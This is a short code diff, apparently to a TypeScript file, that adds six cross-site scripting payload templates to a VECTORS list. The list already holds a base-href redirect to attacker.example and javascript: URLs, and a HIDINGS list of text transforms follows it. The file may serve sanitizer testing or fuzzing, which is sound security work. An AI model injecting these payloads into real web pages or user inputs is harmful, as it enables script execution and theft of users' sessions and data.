@@ -29,6 +29,12 @@ const VECTORS: readonly string[] = [
   `<base href="https://attacker.example/">`,
   `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
   `<marquee onstart=${CODE}>x</marquee>`,
+  `<select autofocus onfocus=${CODE}></select>`,
+  `<audio src=x onerror=${CODE}></audio>`,
+  `<template><script>${CODE}</script></template>`,
+  `<button formaction="javascript:${CODE}">go</button>`,
+  `<div style="background:url(javascript:${CODE})">x</div>`,
+  `<xss id=x tabindex=1 onfocus=${CODE}></xss>`,
 ];
 
 const HIDINGS: readonly ((text: string) => string)[] = [
